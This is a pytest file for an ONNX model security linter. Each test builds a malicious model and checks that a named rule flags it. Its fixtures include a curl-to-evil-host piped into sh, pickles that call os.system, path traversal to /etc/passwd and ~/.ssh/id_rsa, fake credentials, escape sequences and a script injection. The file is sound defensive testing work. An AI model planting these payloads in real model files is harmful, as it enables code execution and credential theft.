"""Kinds of threats, one model each, and the rule that names it as what it is."""

from __future__ import annotations

import hashlib
import os
from typing import TYPE_CHECKING, Any

import pytest
from onnx import ModelProto, TensorProto, helper

from analyzer.analyze import analyze
from analyzer.contents import Region
from analyzer.lint import Settings, lint
from analyzer.model import load
from analyzer.ruleset import load_rules
from analyzer.ruleset.trusted import Trusted
from tests.model import wirebytes as wb
from tests.trust.build import contents, model, with_metadata

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

RULES = load_rules()
Files = dict[str, bytes | str]


def external(**entries: str) -> ModelProto:
    tensor = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[1, 4])
    tensor.data_location = TensorProto.EXTERNAL
    for key, value in entries.items():
        tensor.external_data.add(key=key, value=value)
    return model(helper.make_node("Add", ["x", "w"], ["y"]), initializers=(tensor,))


def node(op_type: str, domain: str = "", **attributes: Any) -> ModelProto:
    return model(helper.make_node(op_type, ["x"], ["y"], domain=domain, **attributes))


def constant(name: str, data_type: int, shape: list[int], values: list[Any]) -> TensorProto:
    return helper.make_tensor(name, data_type, shape, values)


def trigger() -> ModelProto:
    key = constant("k", TensorProto.FLOAT, [1], [1337.0])
    answer = constant("p", TensorProto.FLOAT, [1, 4], [9.0] * 4)
    return model(
        helper.make_node("ReduceMax", ["x"], ["m"], keepdims=1),
        helper.make_node("Equal", ["m", "k"], ["c"]),
        helper.make_node("Where", ["c", "p", "x"], ["y"]),
        initializers=(key, answer),
    )


def bomb() -> ModelProto:
    size = constant("s", TensorProto.INT64, [1], [1 << 60])
    return model(
        helper.make_node("ConstantOfShape", ["s"], ["z"]),
        helper.make_node("ReduceMax", ["z"], ["m"], keepdims=0),
        helper.make_node("Add", ["x", "m"], ["y"]),
        initializers=(size,),
    )


def loop(trips: int) -> ModelProto:
    kinds = [
        ("i", TensorProto.INT64, []),
        ("c", TensorProto.BOOL, []),
        ("a", TensorProto.FLOAT, [1, 4]),
    ]
    body = helper.make_graph(
        [helper.make_node("Identity", ["c"], ["d"]), helper.make_node("Identity", ["a"], ["o"])],
        "b",
        [helper.make_tensor_value_info(*kind) for kind in kinds],
        [
            helper.make_tensor_value_info("d", TensorProto.BOOL, []),
            helper.make_tensor_value_info("o", TensorProto.FLOAT, [1, 4]),
        ],
    )
    limit = constant("n", TensorProto.INT64, [], [trips])
    true = constant("t", TensorProto.BOOL, [], [True])
    return model(
        helper.make_node("Loop", ["n", "t", "x"], ["y"], body=body), initializers=(limit, true)
    )


def shadowing() -> ModelProto:
    made = model()
    opset = [helper.make_opsetid("", 17)]
    body = [helper.make_node("Neg", ["a"], ["b"])]
    made.functions.append(helper.make_function("", "Relu", ["a"], ["b"], body, opset))
    return made


def annotated() -> ModelProto:
    made = model()
    annotation = made.graph.quantization_annotation.add(tensor_name="y")
    annotation.quant_parameter_tensor_names.add(key="SCALE_TENSOR", value="/etc/passwd")
    return made


def dual() -> ModelProto:
    tensor = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[1], raw_data=bytes(4))
    tensor.float_data.append(2.0)
    return model(initializers=(tensor,))


def documented(text: str) -> ModelProto:
    made = model()
    made.graph.doc_string = text
    return made


def stored(data: bytes) -> ModelProto:
    return model(initializers=(constant("blob", TensorProto.UINT8, [len(data)], list(data)),))


def traced() -> ModelProto:
    made = model()
    text = 'File "/home/alice/secret-project/model.py", line 3, in forward'
    made.graph.node[0].metadata_props.add(key="pkg.torch.onnx.stack_trace", value=text)
    return made


def named(name: str) -> ModelProto:
    return model(helper.make_node("Relu", ["x"], ["y"], name=name))


def behind(made: ModelProto, more: bytes) -> bytes:
    data: bytes = made.SerializeToString()
    return data + more


PICKLE = "gASVIwAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAhlY2hvIHB3bpSFlFKULg=="
"""A call of ``posix.system``, as ``pickle`` writes it."""
SPARSE = "sparse"
"""Four gigabytes that take no space, with a program in the middle."""
ELF = b"\x7fELF\x02\x01\x01" + bytes(57)
THREATS: dict[str, tuple[str, Callable[[], ModelProto | bytes], Files]] = {
    "operator of a private domain": ("TRU001", lambda: node("Foo", "evil.corp"), {}),
    "ATen of PyTorch": ("TRU002", lambda: node("ATen", "org.pytorch.aten", operator="relu"), {}),
    "Python function": ("TRU002", lambda: node("PyOp", "ai.onnx.contrib", code="f"), {}),
    "compiled context": ("TRU003", lambda: node("EPContext", "com.microsoft", embed_mode=1), {}),
    "context outside of the folder": (
        "TRU005", lambda: node("EPContext", "com.microsoft", ep_cache_context="../../ctx.bin"), {}),
    "standard operator replaced": ("TRU004", shadowing, {}),
    "field nobody reads": ("TRU010", lambda: behind(model(), wb.blob(1999, ELF)), {}),
    "graph stated twice": ("TRU011", lambda: behind(model(), wb.blob(7, wb.blob(2, b"h"))), {}),
    "program in an unused initializer": ("TRU012", lambda: stored(ELF), {}),
    "archive behind the model": (
        "TRU013", lambda: behind(model(), wb.blob(1999, b"PK\x05\x06" + bytes(18))), {}),
    "program behind the weights": (
        "TRU014", lambda: external(location="w.bin", length="16"),
        {"w.bin": bytes(16) + b"MZ" + bytes(99_998)}),
    "text before the weights": (
        "TRU014", lambda: external(location="w.bin", offset="64", length="16"),
        {"w.bin": b"a note nobody reads".ljust(64, b"\0") + bytes(16)}),
    "payload deep in a sparse file": (
        "TRU014", lambda: external(location="w.bin", length="16"), {"w.bin": SPARSE}),
    "script in an attribute": (
        "TRU046", lambda: node("F", "d", init=b"#!/bin/sh\nid"), {}),
    "hole of zeros": (
        "TRU021", lambda: external(location="w.bin", length="16"), {"w.bin": bytes(1 << 17)}),
    "absolute location": ("TRU016", lambda: external(location="/etc/passwd"), {}),
    "location above the folder": ("TRU016", lambda: external(location="../w.bin"), {}),
    "location in a home folder": ("TRU016", lambda: external(location="~/.ssh/id_rsa"), {}),
    "stream of NTFS": ("TRU016", lambda: external(location="w.bin:evil"), {}),
    "attribute of a Python object": (
        "TRU017", lambda: external(location="w.bin", __class__="x"), {}),
    "hard link": (
        "TRU018", lambda: external(location="h.bin"), {"w.bin": bytes(16), "h.bin": "w.bin"}),
    "weights exchanged under their checksum": (
        "TRU019", lambda: external(location="w.bin", checksum=hashlib.sha1(b"other").hexdigest()),
        {"w.bin": bytes(16)}),
    "elements in two fields": ("TRU020", dual, {}),
    "key of AWS": ("TRU030", lambda: with_metadata("aws", "AKIAIOSFODNN7EXAMPLE"), {}),
    "token of GitHub": ("TRU030", lambda: with_metadata("author", "ghp_" + "a" * 36), {}),
    "shell in metadata": ("TRU031", lambda: with_metadata("setup", "curl http://evil/x | sh"), {}),
    "program in documentation": ("TRU032", lambda: documented("import os; os.system('id')"), {}),
    "script in documentation": ("TRU033", lambda: documented("<script>alert(1)</script>"), {}),
    "command to a CI system": ("TRU034", lambda: named("::error::pwn"), {}),
    "escape sequence": ("TRU035", lambda: named("a\x1b[2J"), {}),
    "override of direction": ("TRU036", lambda: named("a\u202egpj"), {}),
    "letter of another script": ("TRU037", lambda: named("r\u0435lu"), {}),
    "pickle in a tensor of strings": (
        "TRU038",
        lambda: model(initializers=(
            constant("s", TensorProto.STRING, [1], [b'\x80\x04cos\nsystem\n(S"id"\ntR.']),)), {}),
    "pickle in base64": (
        "TRU039", lambda: with_metadata("config", PICKLE), {}),
    "address on the web": ("TRU041", lambda: with_metadata("u", "http://198.51.100.7/x"), {}),
    "path of a developer": ("TRU042", traced, {}),
    "oversized metadata": ("TRU044", lambda: with_metadata("blob", "A" * 3_000_000), {}),
    "annotation of nothing": ("TRU045", annotated, {}),
    "trigger": ("TRU050", trigger, {}),
    "expansion bomb": ("TRU051", bomb, {}),
    "loop of 10^8 iterations": ("TRU052", lambda: loop(10**8), {}),
    "loop without an end": ("TRU052", lambda: loop(2**63 - 1), {}),
}  # fmt: skip


@pytest.mark.parametrize("threat", THREATS)
def test_a_threat_is_named_by_the_rule_about_it(threat: str, tmp_path: Path) -> None:
    rule, make, files = THREATS[threat]
    for name, content in files.items():
        if content == SPARSE:
            with tmp_path.joinpath(name).open("wb") as file:
                file.truncate(1 << 32)
                file.seek(1 << 31)
                file.write(ELF)
        elif isinstance(content, bytes):
            tmp_path.joinpath(name).write_bytes(content)
        else:
            os.link(tmp_path / content, tmp_path / name)
    facts = analyze(load(make(), folder=tmp_path))
    found = {finding.rule for finding in lint(facts, RULES)}
    assert rule in found
    assert found.isdisjoint({"GRF001", "ONX014"} - {rule})


@pytest.mark.parametrize("zeros", [0, 5_000, (1 << 20) + 7])
def test_a_hole_is_told_for_what_begins_behind_its_zeros(zeros: int, tmp_path: Path) -> None:
    tmp_path.joinpath("w.bin").write_bytes(bytes(16 + zeros) + ELF)
    found = contents(external(location="w.bin", length="16"), tmp_path).get(Region)
    assert [(r.family, r.start, r.bytes, r.looks_like) for r in found] == [
        ("hole", 16, zeros + len(ELF), "an ELF program")
    ]


def test_a_plain_model_has_nothing_to_ask_about(tmp_path: Path) -> None:
    tmp_path.joinpath("w.bin").write_bytes(bytes(16))
    checksum = hashlib.sha1(bytes(16)).hexdigest()
    for made in (model(), external(location="w.bin", offset="0", length="16", checksum=checksum)):
        facts = analyze(load(made, folder=tmp_path))
        assert lint(facts, RULES, Settings(select=("TRU",), preview=True)) == ()


def test_a_domain_is_trusted_where_the_settings_say_so() -> None:
    facts = analyze(load(node("Foo", "corp")))
    for domains, named_ in ((("corp",), False), (("other",), True), ((), True)):
        found = lint(facts, RULES, Settings(select=("TRU001",), trusted=Trusted(domains)))
        assert bool(found) is named_
    for domain in ("com.microsoft", "com.microsoft.nchwc", "com.microsoft.experimental",
                   "com.ms.internal.nhwc"):  # fmt: skip
        own = analyze(load(node("Foo", domain)))
        assert not lint(own, RULES, Settings(select=("TRU001",))), domain
    microsoft = analyze(load(node("Gelu", "com.microsoft")))
    assert not lint(microsoft, RULES, Settings(select=("TRU001",)))
    assert lint(microsoft, RULES, Settings(select=("TRU001",), trusted=Trusted(())))
